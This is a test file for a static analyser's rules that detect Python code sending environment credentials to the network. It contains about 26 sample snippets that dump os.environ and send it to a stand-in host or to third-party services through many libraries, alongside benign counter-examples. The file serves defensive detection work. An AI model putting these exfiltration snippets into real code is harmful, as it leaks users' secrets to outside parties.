import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import hostIdentityToNetwork from '../../src/rules/host-identity-to-network.js';
import { read } from './reading.js';

const LOOT = 'import os, json\nD = dict(os.environ)\nJ = json.dumps(D)\n';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : [credentialsToNetwork, hostIdentityToNetwork].flatMap((rule) => rule.check(facts)).map(({ severity }) => severity);
}

test.each([
  ['apprise', 'import apprise\na=apprise.Apprise()\na.add("json://x.example.invalid")\na.notify(body=J)'],
  ['asyncssh', 'import asyncssh,asyncio\nasync def f():\n    async with asyncssh.connect("x.example.invalid") as c:\n        await c.run("echo "+J)\nasyncio.run(f())'],
  ['elastic', 'from elasticsearch import Elasticsearch\nElasticsearch("https://x.example.invalid").index(index="i",document=D)'],
  ['cookies', 'import requests\ns=requests.Session()\ns.cookies.set("a",J)\ns.get("https://x.example.invalid")'],
  ['gql', 'from gql import Client, gql\nfrom gql.transport.requests import RequestsHTTPTransport\nClient(transport=RequestsHTTPTransport(url="https://x.example.invalid")).execute(gql("mutation{a}"),variable_values=D)'],
  ['slack', 'import slack_sdk\nslack_sdk.WebhookClient("https://x.example.invalid").send(text=J)'],
  ['telethon that is started first', 'from telethon.sync import TelegramClient\nTelegramClient("a",1,"h").start().send_message("me",J)'],
  ['grpc', 'import grpc\ngrpc.insecure_channel("x.example.invalid:1").unary_unary("/p/M")(J.encode())'],
  ['hf', 'from huggingface_hub import HfApi\nHfApi(token="t").upload_file(path_or_fileobj=J.encode(),path_in_repo="a",repo_id="b")'],
  ['influx', 'from influxdb_client import InfluxDBClient\nInfluxDBClient("https://x.example.invalid","t").write_api().write("b","o",J)'],
  ['mixpanel', 'import mixpanel\nmixpanel.Mixpanel("t").track("id","e",D)'],
  ['nio', 'from nio import AsyncClient\nimport asyncio\nasyncio.run(AsyncClient("https://x.example.invalid","u").room_send("r","m.room.message",{"body":J}))'],
  ['paramiko', 'import paramiko\nc=paramiko.SSHClient()\nc.connect("x.example.invalid",username="u",password="p")\nc.exec_command("echo "+J)'],
  ['playwright', 'from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto("https://x.example.invalid/?"+J)'],
  ['posthog', 'import posthog\nposthog.project_api_key="k"\nposthog.capture("id","e",D)'],
  ['praw', 'import praw\npraw.Reddit(client_id="a").subreddit("s").submit("t",selftext=J)'],
  ['pyrebase', 'import pyrebase\npyrebase.initialize_app({"databaseURL":"https://x.example.invalid"}).database().child("u").push(D)'],
  ['pysftp', 'import pysftp\npysftp.Connection("x.example.invalid",username="u",password="p").putfo(J)'],
  ['rpyc', 'import rpyc\nrpyc.connect("x.example.invalid",1).root.put(J)'],
  ['scapy', 'from scapy.all import IP,ICMP,send\nsend(IP(dst="x.example.invalid")/ICMP()/J)'],
  ['segment', 'import analytics\nanalytics.write_key="k"\nanalytics.track("id","e",D)'],
  ['selenium', 'from selenium import webdriver\nwebdriver.Chrome().get("https://x.example.invalid/?"+J)'],
  ['syslog', 'import logging,logging.handlers\nlogging.getLogger().addHandler(logging.handlers.SysLogHandler(("x.example.invalid",514)))\nlogging.error(J)'],
  ['telethon', 'from telethon.sync import TelegramClient\nTelegramClient("a",1,"h").send_message("me",J)'],
  ['twisted', 'from twisted.web.client import getPage\ngetPage(b"https://x.example.invalid",method=b"POST",postdata=J)'],
  ['wandb', 'import wandb\nwandb.init(project="p")\nwandb.log(D)'],
])('whatever takes what is sent is a way out: %s', async (_, text) => {
  expect(await severities(`${LOOT}${text}\n`)).toContain('critical');
});

test.each([
  ['es2', 'import os\nfrom elasticsearch import Elasticsearch\nes=Elasticsearch("https://es.internal.example.invalid", basic_auth=("elastic", os.environ["ES_PASSWORD"]))\nes.index(index="i",document={"a":1})'],
  ['hf', 'import os\nfrom huggingface_hub import HfApi\nHfApi(token=os.environ["HF_TOKEN"]).upload_file(path_or_fileobj="model.bin",path_in_repo="a",repo_id="me/b")'],
  ['wandb', 'import os, wandb\nwandb.login(key=os.environ["WANDB_API_KEY"])\nwandb.init(project="p")\nwandb.log({"loss":1})'],
  ['posthog3', 'import platform, uuid\nfrom posthog import Posthog\np=Posthog("phc_x", host="https://eu.posthog.example.invalid")\np.capture(str(uuid.uuid4()),"import",{"os":platform.system(),"py":platform.python_version()})'],
  ['asyncssh', 'import os, asyncssh\nasync def main():\n    async with asyncssh.connect("host", password=os.environ["SSH_PASSWORD"]) as c:\n        await c.run("uptime")'],
  ['apprise', 'import os, apprise\na=apprise.Apprise()\na.add(os.environ["NOTIFY_URL"])\na.notify(body="done")'],
  ['influx', 'import os\nfrom influxdb_client import InfluxDBClient\nc=InfluxDBClient(url=os.environ["INFLUX_URL"], token=os.environ["INFLUX_TOKEN"])\nc.write_api().write("b","o","m v=1")'],
  ['syslog', 'import logging, logging.handlers, os\nh=logging.handlers.SysLogHandler(address=("logs.example.invalid",514))\nlogging.getLogger().addHandler(h)\nlogging.info("started in %s", os.environ.get("HOME"))'],
  ['grpc', 'import os, grpc\nch=grpc.secure_channel("api.example.invalid:443", grpc.ssl_channel_credentials())\nch.unary_unary("/a/B")(b"x", metadata=[("authorization", os.environ["API_TOKEN"])])'],
  ['kafka', 'import os\nfrom confluent_kafka import Producer\np=Producer({"bootstrap.servers":"b","sasl.password":os.environ["KAFKA_PASSWORD"]})\np.produce("t","x")'],
])('what a client is opened with is its own, and what is sent tells nothing: %s', async (_, text) => {
  expect((await severities(`${text}\n`)).filter((severity) => severity === 'critical' || severity === 'high')).toEqual([]);
});
